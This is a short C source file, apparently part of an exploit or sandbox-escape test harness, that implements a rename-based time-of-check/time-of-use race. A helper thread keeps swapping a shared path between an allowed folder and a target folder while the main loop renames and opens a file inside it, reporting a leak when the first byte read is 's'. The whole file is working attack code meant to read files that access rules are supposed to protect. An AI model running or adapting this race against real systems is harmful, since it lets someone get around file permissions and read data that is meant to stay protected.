#include "attack.h"
#include "opens.h"

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* The folder that is renamed is another one between the moment it is looked at and the moment it is used; what is in it tells which. */
    static char path[4096];
    char *one = NULL, *another = NULL, *moved = NULL, *file = NULL;
    pthread_t other;
    (void)workspace;
    if (asprintf(&one, "%s.folder", extra) < 0 || asprintf(&another, "%s.folder", target) < 0 || asprintf(&moved, "%s.moved", one) < 0 ||
        asprintf(&file, "%s/file", moved) < 0)
        return 0;
    int leaked = 0;
    strcpy(path, one);
    struct swap swap = {.place = path, .one = one, .other = another};
    if (rename(one, moved) == 0) /* undisturbed: what is allowed can be done */
        rename(moved, one);
    if (pthread_create(&other, NULL, keep_rewriting, &swap) != 0)
        return 0;
    while (!leaked && goes_on())
        if (rename(path, moved) == 0) {
            leaked = first_of(open(file, O_RDONLY)) == 's';
            rename(moved, one);
        }
    swap.over = 1;
    pthread_join(other, NULL);
    return leaked;
}
